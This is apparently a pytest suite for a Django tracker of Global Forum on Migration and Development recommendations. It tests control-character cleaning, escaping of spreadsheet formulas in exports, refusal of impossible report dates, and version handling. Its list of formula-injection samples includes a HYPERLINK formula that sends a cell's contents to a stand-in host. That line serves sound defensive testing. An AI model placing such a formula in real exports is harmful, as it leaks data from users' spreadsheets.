"""Bad input found in the field, refused or made harmless wherever it can enter or leave:
control characters (stored clean, filtered from feeds and spreadsheets), spreadsheet formulas
(escaped in every CSV/TSV/XLSX export), report dates that cannot be true, and a recommendation's
public version that unpublished activity must not move. The inputs of
`../shared/cases/hardening/` are used as they are."""

import csv
import datetime
import io
import json
from pathlib import Path

import feedparser
import openpyxl
import pytest
from django.core.management import call_command
from django.db import connection
from django.utils import timezone

from tests.admin_forms import EMPTY_EVIDENCE_FORMSET
from tracker import roles, services
from tracker.models import ProgressUpdate, Recommendation, Theme
from tracker.text import clean_text, escape_formula, unescape_formula, xml_safe

API = "/api/v1"
CASES = Path(__file__).resolve().parents[2] / "shared" / "cases" / "hardening"
BAD = "a\x0bb\x0cc\x00d\x01e\x08f\x0eg\x1fh\x7f\ufffei\uffffj\tk\nl\rm"
BAD_CLEANED = "a\nb\nc" + "defgh\x7fij\tk\nl\rm"


def case(name):
    return json.loads((CASES / name).read_text(encoding="utf-8"))


@pytest.fixture
def world(make_process, make_forum, make_recommendation, actor_a, secretariat_actor):
    """The recommendation the field cases name, GFMD-2007-RT1-03, of the first GFMD (Brussels,
    from 9 July 2007)."""
    gfmd = make_process(slug="gfmd", acronym="GFMD", name="Global Forum on Migration and Development")
    brussels = make_forum(
        slug="gfmd-2007", process=gfmd, title="First GFMD, Brussels", start_date=datetime.date(2007, 7, 9)
    )
    recommendation = make_recommendation(
        code="GFMD-2007-RT1-03", forum=brussels, text="Develop codes of ethical recruitment", actors=[actor_a]
    )
    return recommendation


@pytest.fixture
def secretariat(api_client_for, secretariat_user):
    return api_client_for(secretariat_user)


@pytest.fixture
def focal(api_client_for, focal_a):
    return api_client_for(focal_a)


def etag(client, recommendation):
    return client.get(f"{API}/recommendations/{recommendation.code}/")["ETag"]


def raw_set(table, column, value, pk):
    """Store `value` bypassing every Django field, as text stored before cleaning would be.
    (PostgreSQL cannot store NUL at all, so it is left out there.)"""
    if connection.vendor == "postgresql":
        value = value.replace("\x00", "")
    with connection.cursor() as cursor:
        quote = connection.ops.quote_name
        cursor.execute(f"UPDATE {quote(table)} SET {quote(column)} = %s WHERE id = %s", [value, pk])  # noqa: S608


# --- Control characters ---------------------------------------------------------------------


def test_clean_text_turns_vertical_tab_and_form_feed_into_newlines_and_drops_other_controls():
    assert clean_text(BAD) == BAD_CLEANED
    assert clean_text("plain\ttext\r\n") == "plain\ttext\r\n"
    assert clean_text(None) is None
    assert xml_safe("x\x0by") == "x\ny"
    for code in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0xFFFE, 0xFFFF]:
        assert chr(code) not in clean_text(f"a{chr(code)}b")


def test_the_field_case_a_summary_with_a_vertical_tab_is_stored_with_a_newline_and_the_feeds_stay_up(
    client, world, secretariat
):
    body = case("update_summary_with_vertical_tab.json")
    response = secretariat.post(f"{API}/updates/", body, format="json", HTTP_IF_MATCH=etag(secretariat, world))
    assert response.status_code == 201, response.json()
    stored = ProgressUpdate.objects.get(pk=response.json()["id"])
    assert stored.summary == "Text pasted from Word\nwith a vertical tab"
    for query in ("", "?forum=gfmd-2007", "?q=ethical", "?status=in_progress"):
        feed = client.get(f"/feeds/updates/{query}")
        assert feed.status_code == 200
        parsed = feedparser.parse(feed.content)
        assert not parsed.bozo, parsed.bozo_exception
        assert len(parsed.entries) == 1


def test_text_stored_with_control_characters_before_cleaning_breaks_no_public_answer(
    client, world, make_update, actor_a
):
    update = make_update(world, actor_a, reported_on=datetime.date(2008, 10, 1))
    raw_set("tracker_progressupdate", "summary", f"Summary {BAD}", update.pk)
    raw_set("tracker_recommendation", "text", f"Text {BAD}", world.pk)
    raw_set("tracker_actor", "name", "Government\x0b A", actor_a.pk)
    for url in (
        "/feeds/updates/",
        "/feeds/updates/?forum=gfmd-2007",
        "/recommendations/",
        f"/recommendations/{world.code}/",
        "/recommendations/?format=csv",
        "/recommendations/?format=json",
        f"{API}/recommendations/",
        f"{API}/updates/",
        "/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
    parsed = feedparser.parse(client.get("/feeds/updates/").content)
    assert not parsed.bozo, parsed.bozo_exception
    assert "Government\n A" in parsed.entries[0].title or "Government A" in parsed.entries[0].title.replace("\n", "")


@pytest.mark.parametrize("path", ["admin", "api_create", "api_patch"])
def test_every_write_path_stores_progress_text_clean(
    path, client, world, secretariat_user, focal_a, focal, secretariat, actor_a
):
    summary = f"Summary {BAD}"
    if path == "admin":
        client.force_login(secretariat_user)
        response = client.post(
            "/admin/tracker/progressupdate/add/",
            {
                "recommendation": world.pk,
                "actor": actor_a.pk,
                "status": "in_progress",
                "reported_on": "2008-10-01",
                "summary": summary,
                "evidence_url": "",
                **EMPTY_EVIDENCE_FORMSET,
            },
        )
        assert response.status_code == 302, response.content.decode()[:3000]
        update = ProgressUpdate.objects.get()
    elif path == "api_create":
        body = {"recommendation": world.code, "status": "in_progress", "summary": summary, "reported_on": "2008-10-01"}
        response = focal.post(f"{API}/updates/", body, format="json")
        assert response.status_code == 201, response.json()
        update = ProgressUpdate.objects.get()
        assert response.json()["summary"] == "Summary " + BAD_CLEANED
    else:
        update = services.record_progress(
            world, user=focal_a, actor=actor_a, status="in_progress", summary="First", reported_on=None
        )
        url = f"{API}/updates/{update.pk}/"
        response = focal.patch(url, {"summary": summary}, format="json", HTTP_IF_MATCH=focal.get(url)["ETag"])
        assert response.status_code == 200, response.json()
        update.refresh_from_db()
    assert update.summary == "Summary " + BAD_CLEANED


def test_saves_bulk_inserts_and_fixtures_store_names_clean(tmp_path, db):
    theme = Theme.objects.create(slug="one", name="One\x0bname", description=f"D {BAD}")
    theme.refresh_from_db()
    assert (theme.name, theme.description) == ("One\nname", "D " + BAD_CLEANED)
    Theme.objects.bulk_create([Theme(slug="two", name="Two\x01", description="\x0c")])
    assert Theme.objects.filter(slug="two").values_list("name", "description").get() == ("Two", "\n")
    fixture = tmp_path / "themes.json"
    fixture.write_text(
        json.dumps(
            [{"model": "tracker.theme", "fields": {"slug": "three", "name": "Three\x0b", "description": "\x02x"}}]
        ),
        encoding="utf-8",
    )
    call_command("loaddata", str(fixture), verbosity=0)
    assert Theme.objects.filter(slug="three").values_list("name", "description").get() == ("Three\n", "x")


# --- Spreadsheet formulas ------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.fixture
def formula_world(world, make_recommendation):
    texts = {}
    for n, text in enumerate(FORMULAS):
        recommendation = make_recommendation(code=f"FORMULA-{n:02d}", forum=world.forum, text=text)
        texts[recommendation.code] = text
    return texts


def test_the_field_case_formula_text_is_escaped_in_the_public_csv_and_left_as_is_in_json_and_the_api(
    client, formula_world
):
    rows = list(csv.DictReader(io.StringIO(client.get("/recommendations/?format=csv").getvalue().decode("utf-8-sig"))))
    by_code = {row["code"]: row for row in rows}
    for code, text in formula_world.items():
        assert by_code[code]["text"] == "'" + text
        assert unescape_formula(by_code[code]["text"]) == text
    results = json.loads(client.get("/recommendations/?format=json").getvalue())
    assert {row["code"]: row["text"] for row in results if row["code"] in formula_world} == formula_world
    for code, text in formula_world.items():
        assert client.get(f"{API}/recommendations/{code}/").json()["text"] == text


def test_escape_formula_round_trips_every_text():
    for text in [*FORMULAS, "plain", "'plain", "''=x", "", "-", "'"]:
        assert unescape_formula(escape_formula(text)) == text
    assert escape_formula("plain") == "plain"
    assert escape_formula("'plain") == "'plain"
    assert escape_formula(None) is None


def admin_export(client, fmt):
    """POST the admin's export form for every recommendation in format `fmt` (CSV, TSV, XLSX, JSON)."""
    from tracker import spreadsheet_formats

    names = [f.__name__ for f in spreadsheet_formats.EXPORT_FORMATS]
    data = {"format": names.index(fmt), "resource": 0}
    from tracker.columns import EXPORT_COLUMNS

    for column in EXPORT_COLUMNS:
        data[f"recommendationresource_{column}"] = "on"
    response = client.post("/admin/tracker/recommendation/export/", data)
    assert response.status_code == 200, response.content[:2000]
    return response


@pytest.mark.parametrize("fmt", ["CSV", "TSV"])
def test_admin_csv_and_tsv_exports_escape_formulas(client, formula_world, secretariat_user, fmt):
    client.force_login(secretariat_user)
    content = admin_export(client, fmt).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content), delimiter="\t" if fmt == "TSV" else ","))
    by_code = {row["code"]: row for row in rows}
    for code, text in formula_world.items():
        assert by_code[code]["text"] == "'" + text


def test_admin_xlsx_export_writes_formulas_as_text_and_survives_control_characters(
    client, formula_world, world, secretariat_user
):
    raw_set("tracker_recommendation", "text", f"Text {BAD}", world.pk)
    client.force_login(secretariat_user)
    book = openpyxl.load_workbook(io.BytesIO(admin_export(client, "XLSX").content))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    code_at, text_at = header.index("code"), header.index("text")
    cells = {row[code_at].value: row[text_at] for row in sheet.iter_rows(min_row=2)}
    for code, text in formula_world.items():
        assert cells[code].data_type == "s"
        # XML (and so XLSX) reads a carriage return back as a line feed.
        assert cells[code].value == ("'" + text).replace("\r", "\n")
    assert cells[world.code].value == ("Text " + BAD_CLEANED).replace("\r", "\n")


def test_admin_json_export_is_not_escaped(client, formula_world, secretariat_user):
    client.force_login(secretariat_user)
    rows = json.loads(admin_export(client, "JSON").content)
    assert {row["code"]: row["text"] for row in rows if row["code"] in formula_world} == formula_world


# --- Report dates that cannot be true ------------------------------------------------------


@pytest.mark.parametrize("reported_on", ["2099-12-31", "9999-12-31", "2007-07-08", "1900-01-01"])
def test_the_field_case_an_impossible_report_date_is_refused_by_the_api(world, secretariat, focal, reported_on):
    body = case("update_reported_on_far_future.json") | {"reported_on": reported_on}
    before = Recommendation.objects.get(pk=world.pk)
    for client, headers in ((secretariat, {"HTTP_IF_MATCH": etag(secretariat, world)}), (focal, {})):
        response = client.post(f"{API}/updates/", body, format="json", **headers)
        assert response.status_code == 400, response.json()
        assert list(response.json()["errors"]) == ["reported_on"]
        assert reported_on in response.json()["errors"]["reported_on"][0]
    after = Recommendation.objects.get(pk=world.pk)
    assert (after.status, after.version) == (before.status, before.version)
    assert not ProgressUpdate.objects.exists()


def test_today_and_tomorrow_are_accepted_the_day_after_is_not(world, secretariat_user, actor_a):
    today = timezone.localdate()
    for day in (today, today + datetime.timedelta(days=1)):
        services.record_progress(
            world, user=secretariat_user, actor=actor_a, status="in_progress", summary="ok", reported_on=day
        )
    with pytest.raises(Exception) as refused:
        services.record_progress(
            world,
            user=secretariat_user,
            actor=actor_a,
            status="implemented",
            summary="typo",
            reported_on=today + datetime.timedelta(days=2),
        )
    assert "in the future" in str(refused.value)
    assert ProgressUpdate.objects.count() == 2


def test_the_admin_refuses_an_impossible_report_date_with_a_clear_message(client, world, focal_a, actor_a):
    client.force_login(focal_a)
    response = client.post(
        "/admin/tracker/progressupdate/add/",
        {
            "recommendation": world.pk,
            "actor": actor_a.pk,
            "status": "implemented",
            "reported_on": "2099-12-31",
            "summary": "year typo",
            **EMPTY_EVIDENCE_FORMSET,
        },
    )
    assert response.status_code == 200
    assert "The report date 2099-12-31 is in the future" in response.content.decode()
    assert not ProgressUpdate.objects.exists()


def test_revising_an_update_to_an_impossible_date_is_refused(world, focal_a, focal, actor_a):
    update = services.record_progress(world, user=focal_a, actor=actor_a, status="in_progress", summary="First")
    url = f"{API}/updates/{update.pk}/"
    response = focal.patch(url, {"reported_on": "2099-12-31"}, format="json", HTTP_IF_MATCH=focal.get(url)["ETag"])
    assert response.status_code == 400
    update.refresh_from_db()
    assert update.reported_on == timezone.localdate()


# --- Unpublished activity does not move the public version ----------------------------------


def public_validators(client, recommendation):
    response = client.get(f"{API}/recommendations/{recommendation.code}/")
    stored = Recommendation.objects.get(pk=recommendation.pk)
    return response["ETag"], response["Last-Modified"], response.json()["version"], stored.updated_at


def test_submitting_revising_and_returning_an_update_leave_the_public_version_alone(
    client, world, focal, secretariat, api_client_for
):
    anonymous = api_client_for(None)
    before = public_validators(anonymous, world)
    created = focal.post(
        f"{API}/updates/",
        {"recommendation": world.code, "status": "in_progress", "summary": "Draft", "reported_on": "2008-10-01"},
        format="json",
    )
    assert created.status_code == 201
    url = created["Location"]
    assert created.json()["version"] == 1
    assert public_validators(anonymous, world) == before
    revised = focal.patch(url, {"summary": "Better"}, format="json", HTTP_IF_MATCH=created["ETag"])
    assert revised.status_code == 200, revised.json()
    assert revised.json()["version"] == 2
    assert public_validators(anonymous, world) == before
    returned = secretariat.post(f"{url}return/", {"note": "Evidence?"}, format="json", HTTP_IF_MATCH=revised["ETag"])
    assert returned.status_code == 200, returned.json()
    assert returned.json()["version"] == 3
    assert public_validators(anonymous, world) == before
    resubmitted = focal.patch(url, {"summary": "With evidence"}, format="json", HTTP_IF_MATCH=returned["ETag"])
    assert resubmitted.status_code == 200
    assert public_validators(anonymous, world) == before
    # The stale ETag of the update (before the return) protects it: 412, nothing written.
    stale = focal.patch(url, {"summary": "Overwrite"}, format="json", HTTP_IF_MATCH=revised["ETag"])
    assert stale.status_code == 412
    approved = secretariat.post(f"{url}approve/", {}, format="json", HTTP_IF_MATCH=resubmitted["ETag"])
    assert approved.status_code == 200, approved.json()
    after = public_validators(anonymous, world)
    assert after[0] != before[0] and after[2] == before[2] + 1 and after[3] > before[3]


def test_deleting_an_unapproved_update_leaves_the_public_version_alone_and_needs_the_updates_etag(
    world, focal, secretariat, api_client_for
):
    anonymous = api_client_for(None)
    created = focal.post(
        f"{API}/updates/",
        {"recommendation": world.code, "status": "in_progress", "summary": "Draft", "reported_on": "2008-10-01"},
        format="json",
    )
    before = public_validators(anonymous, world)
    url = created["Location"]
    revised = focal.patch(url, {"summary": "Better"}, format="json", HTTP_IF_MATCH=created["ETag"])
    assert secretariat.delete(url, HTTP_IF_MATCH=created["ETag"]).status_code == 412
    assert secretariat.delete(url, HTTP_IF_MATCH=revised["ETag"]).status_code == 204
    assert public_validators(anonymous, world) == before


def test_the_admin_refuses_to_save_an_update_over_someone_elses_revision(client, world, focal_a, actor_a):
    update = services.record_progress(world, user=focal_a, actor=actor_a, status="in_progress", summary="First")
    client.force_login(focal_a)
    page = client.get(f"/admin/tracker/progressupdate/{update.pk}/change/")
    assert f'name="edit_version" value="{update.version}"' in page.content.decode()
    services.revise_update(update, user=focal_a, changes={"summary": "Colleague's"})
    response = client.post(
        f"/admin/tracker/progressupdate/{update.pk}/change/",
        {
            "status": "in_progress",
            "reported_on": timezone.localdate().isoformat(),
            "summary": "Mine",
            "evidence_url": "",
            "edit_version": 1,
            **EMPTY_EVIDENCE_FORMSET,
        },
        follow=True,
    )
    assert "was changed by someone else" in response.content.decode()
    update.refresh_from_db()
    assert update.summary == "Colleague's"


@pytest.fixture(autouse=True)
def _groups(db):
    roles.ensure_groups()


# --- The import: the same rules on its way in ------------------------------------------------


def import_rows(rows, user):
    """Import `rows` (dicts of export columns) as a CSV file would bring them, through the
    importer's one reading path."""
    from tracker import importing
    from tracker.columns import EXPORT_COLUMNS

    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=EXPORT_COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    return importing.import_recommendations(importing.read_dataset(out.getvalue().encode("utf-8"), "csv"), user=user)


@pytest.mark.parametrize("last_update", ["2099-12-31", "9999-12-31", "2007-07-08"])
def test_an_import_row_that_sets_a_status_with_an_impossible_date_is_refused(world, secretariat_user, last_update):
    before = Recommendation.objects.get(pk=world.pk)
    row = {"code": world.code, "forum": "gfmd-2007", "text": world.text, "kind": world.kind}
    report = import_rows([row | {"status": "implemented", "last_update": last_update}], secretariat_user)
    assert report.rejected
    assert any("column last_update" in error and last_update in error for error in report.errors), report.errors
    after = Recommendation.objects.get(pk=world.pk)
    assert (after.status, after.version) == (before.status, before.version)
    assert not ProgressUpdate.objects.exists()


def test_an_imported_text_with_control_characters_is_stored_clean(world, secretariat_user):
    row = {"code": world.code, "forum": "gfmd-2007", "text": f"Text {BAD}", "kind": world.kind, "status": world.status}
    report = import_rows([row], secretariat_user)
    assert not report.rejected, report.errors
    assert Recommendation.objects.get(pk=world.pk).text == "Text " + BAD_CLEANED
